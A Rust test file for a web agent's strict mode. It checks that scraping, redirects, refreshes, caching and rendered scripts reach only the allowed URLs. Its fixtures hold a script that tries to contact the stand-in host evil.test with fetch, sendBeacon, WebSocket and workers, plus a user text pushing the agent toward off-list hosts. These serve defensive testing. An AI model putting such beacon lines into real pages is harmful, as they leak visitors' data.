//! Strict runs: nothing outside their URLs is requested, whatever a page does.

use websvc_agent::{Environment, ToolCall, ToolFailure, ToolKind};
use websvc_runs::RunEnvironment;
use websvc_testkit::{Page, TestWeb};

use crate::support::{Fixture, Options, assert_refused, read, scrape};

fn strict(fixture: &Fixture, urls: &[&str]) -> RunEnvironment {
    fixture.run(|setup| {
        setup.is_strict = true;
        setup.urls = urls.iter().map(|url| url.parse().unwrap()).collect();
        setup.user_texts = vec!["Read http://other.test/ and evil.test, too.".to_owned()];
    })
}

#[tokio::test]
async fn strict_run_only_reads_its_urls() {
    let page = "<h1>Tea</h1><p>Sencha. <a href='/next'>next</a> <a href='http://other.test/'>other</a></p>\
        <link rel=canonical href='http://other.test/canonical'>";
    let web = TestWeb::builder().page("http://a.test/x", Page::html(page));
    let fixture = Fixture::new(web).await;
    let run = strict(&fixture, &["http://a.test/x"]);
    assert_eq!(run.tools(), [ToolKind::Scrape]);
    assert!(read(&run, "http://a.test/x").await.contains("Sencha"));
    for url in [
        "http://a.test/next",
        "http://other.test/",
        "http://a.test/x?q=1",
        "http://a.test/",
        "http://evil.test/",
    ] {
        assert_refused(&scrape(&run, url).await, url);
    }
    let (url, query) = ("http://a.test/x".to_owned(), "tea".to_owned());
    for call in [
        ToolCall::Search { query: query.clone() },
        ToolCall::Map { url: url.clone(), query },
        ToolCall::Crawl { url: url.clone(), max_pages: 5 },
        ToolCall::Interact { url, task: "click".to_owned() },
    ] {
        assert_refused(&run.call(&call).await, &format!("{call:?}"));
    }
    assert_eq!(fixture.web.requests().len(), 1, "{:?}", fixture.requested());
}

#[tokio::test]
async fn redirects_and_refreshes_stay_on_the_page() {
    let refresh = |target: &str| {
        Page::html(format!("<head><meta http-equiv=refresh content='0; url={target}'></head><p>wait"))
    };
    let web = TestWeb::builder()
        .page("http://chain.test/1", Page::redirect(302, "http://chain.test/2"))
        .page("http://chain.test/2", Page::redirect(302, "http://other.test/"))
        .page("http://refresh.test/", refresh("http://other.test/"))
        .page("http://sibling.test/a", Page::redirect(301, "/b"))
        .page("http://through.test/a", Page::redirect(301, "http://other.test/back"))
        .page("http://www.same.test/a", Page::redirect(301, "http://same.test/a/?lang=en"))
        .page("http://same.test/a/", Page::html("<p>the same page"))
        .page("http://other.test/", Page::html("<p>other"))
        .page("http://sibling.test/b", Page::html("<p>sibling"));
    let fixture = Fixture::new(web).await;
    let urls = [
        "http://chain.test/1",
        "http://refresh.test/",
        "http://sibling.test/a",
        "http://through.test/a",
        "http://www.same.test/a",
    ];
    let run = strict(&fixture, &urls);
    for url in &urls[..4] {
        assert_refused(&scrape(&run, url).await, url);
    }
    assert!(read(&run, urls[4]).await.contains("the same page"));
    let mut expected = urls.map(str::to_owned).to_vec();
    expected.push("http://same.test/a/?lang=en".to_owned());
    expected.sort();
    assert_eq!(fixture.requested(), expected);
    // The same pages without the rule: the requests would be received.
    let run = fixture.run(|setup| setup.user_texts = vec!["chain.test refresh.test".to_owned()]);
    for url in &urls[..2] {
        assert!(read(&run, url).await.contains("other"));
    }
    assert_eq!(fixture.web.count("http://other.test/"), 2);
}

#[tokio::test]
async fn cached_page_of_another_run_is_checked_by_its_final_url() {
    let web = TestWeb::builder()
        .page("http://a.test/", Page::redirect(302, "http://other.test/"))
        .page("http://other.test/", Page::html("<p>other"));
    let fixture = Fixture::new(web).await;
    let run = fixture.run(|setup| setup.user_texts = vec!["a.test".to_owned()]);
    assert!(read(&run, "http://a.test/").await.contains("other"));
    let run = strict(&fixture, &["http://a.test/"]);
    assert_refused(&scrape(&run, "http://a.test/").await, "the cached page");
    assert_eq!(fixture.web.count("http://other.test/"), 1);
}

/// A page whose scripts create the content, and try to reach another host and other pages of its own.
const APPLICATION: &str = "<!doctype html><title>Shop</title><div id=root></div><script src='/app.js'></script>\
    <script src='http://cdn.test/lib.js'></script>";

const SCRIPT: &str = "document.getElementById('root').textContent = 'Kettles of copper and of steel. '.repeat(20);
    const add = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
    add('img', { src: 'http://evil.test/image' });
    add('iframe', { src: 'http://evil.test/frame' });
    add('iframe', { src: '/frame' });
    add('script', { src: 'http://evil.test/script' });
    fetch('http://evil.test/fetch', { mode: 'no-cors' }).catch(() => 0);
    navigator.sendBeacon('http://evil.test/beacon', 'data');
    new WebSocket('ws://evil.test/socket');
    new Worker('data:text/javascript,fetch(`http://evil.test/worker`, {mode: `no-cors`})');
    fetch('/api').catch(() => 0);";

#[tokio::test]
async fn rendered_page_loads_files_of_its_hosts_only() {
    let web = TestWeb::builder()
        .page("http://a.test/app", Page::html(APPLICATION))
        .page("http://a.test/app.js", Page::new("text/javascript", SCRIPT))
        .page("http://a.test/api", Page::text("data"))
        .page("http://a.test/frame", Page::html("<p>frame"))
        .page("http://evil.test/frame", Page::html("<p>frame"));
    let options = Options { has_browser: true, ..Options::default() };
    let Some(fixture) = Fixture::with(web, options).await else { return };
    let run = strict(&fixture, &["http://a.test/app"]);
    assert!(read(&run, "http://a.test/app").await.contains("Kettles of copper"));
    fixture.web.wait_for_request("http://a.test/api").await;
    let requested = fixture.requested();
    let is_expected = |url: &String| {
        ["http://a.test/app", "http://a.test/app.js", "http://a.test/api", "http://a.test/favicon.ico"]
            .contains(&url.as_str())
    };
    assert!(requested.iter().all(is_expected), "{requested:?}");
    fixture.web.clear_requests();
    // The same page without the rule. It is not in the cache, whose key has the query.
    let run = fixture.run(|setup| setup.user_texts = vec!["http://a.test/app?2".to_owned()]);
    read(&run, "http://a.test/app?2").await;
    for path in ["image", "frame", "script", "fetch", "beacon", "worker"] {
        fixture.web.wait_for_request(&format!("http://evil.test/{path}")).await;
    }
    fixture.web.wait_for_request("http://a.test/frame").await;
}

#[tokio::test]
async fn navigation_of_a_rendered_page_is_refused() {
    let script = "location = 'http://evil.test/next'";
    let web = TestWeb::builder()
        .page("http://a.test/app", Page::html(APPLICATION))
        .page("http://a.test/app.js", Page::new("text/javascript", script))
        .page("http://evil.test/next", Page::html("<p>next"));
    let options = Options { has_browser: true, ..Options::default() };
    let Some(fixture) = Fixture::with(web, options).await else { return };
    let run = strict(&fixture, &["http://a.test/app"]);
    let outcome = scrape(&run, "http://a.test/app").await;
    assert!(!matches!(outcome, Err(ToolFailure::Stopped(_))), "{outcome:?}");
    assert_eq!(fixture.web.count("http://evil.test/next"), 0);
    assert_eq!(fixture.web.count("http://a.test/app.js"), 1);
    let run = fixture.run(|setup| setup.user_texts = vec!["http://a.test/app?2".to_owned()]);
    read(&run, "http://a.test/app?2").await;
    fixture.web.wait_for_request("http://evil.test/next").await;
}
